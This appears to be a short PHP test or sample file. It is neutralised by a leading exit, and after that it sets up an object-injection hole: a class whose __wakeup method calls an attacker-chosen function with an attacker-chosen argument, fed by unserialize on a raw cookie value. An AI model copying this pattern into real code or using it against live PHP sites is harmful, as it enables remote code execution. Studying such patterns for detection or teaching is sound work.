<?php exit; /* inert */ class B{public $f,$a; function __wakeup(){ ($this->f)($this->a);} } unserialize($_COOKIE["s"]);
